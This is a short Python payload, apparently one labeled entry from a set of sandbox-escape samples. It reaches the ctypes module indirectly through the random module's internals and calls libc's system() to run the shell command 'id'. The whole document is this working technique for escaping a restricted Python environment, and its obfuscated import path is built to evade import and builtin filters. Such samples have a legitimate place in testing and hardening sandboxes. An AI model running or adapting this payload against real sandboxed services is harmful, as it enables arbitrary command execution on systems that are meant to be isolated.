# family: classic (ctypes: libc's system)   goal: id
import random
ctypes = random._os.sys.modules.get("ctypes") or random.__builtins__["__import__"]("ctypes")
ctypes.CDLL(None).system(b"id")
